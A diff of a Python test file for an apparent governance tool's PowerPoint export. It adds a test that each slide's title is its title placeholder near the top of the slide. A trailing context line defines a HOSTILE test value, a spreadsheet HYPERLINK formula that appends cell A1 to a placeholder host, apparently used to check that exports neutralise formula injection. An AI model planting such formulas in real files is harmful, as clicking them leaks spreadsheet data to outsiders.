@@ -26,6 +26,7 @@ from lxml import etree
 from pptx import Presentation
 from pptx.enum.shapes import MSO_SHAPE_TYPE
 from pptx.oxml.ns import qn
+from pptx.util import Inches
 
 from governance import db
 from governance import filters as flt
@@ -178,6 +179,14 @@ def test_pptx_has_eight_16_9_slides_with_native_charts_of_the_decks_numbers(deck
         assert native.part.chart_workbook.xlsx_part is not None  # editable in PowerPoint
     party = next(s for s in prs.slides[3].shapes if s.has_chart).chart
     assert tuple(party.plots[0].series[0].values) == pytest.approx((100.0, 200 / 3))
+
+
+def test_each_slides_title_is_its_title_placeholder(deck, files):
+    # what the outline view, the slide sorter and a screen reader name the slide by (a text
+    # box at the top was no title to them)
+    prs = Presentation(str(files["pptx"]))
+    assert [page.shapes.title.text for page in prs.slides] == [s.title for s in deck.slides]
+    assert all(page.shapes.title.top < Inches(1.2) for page in list(prs.slides)[1:])
 
 
 HOSTILE = '=HYPERLINK("http://x"&A1,"点我")'
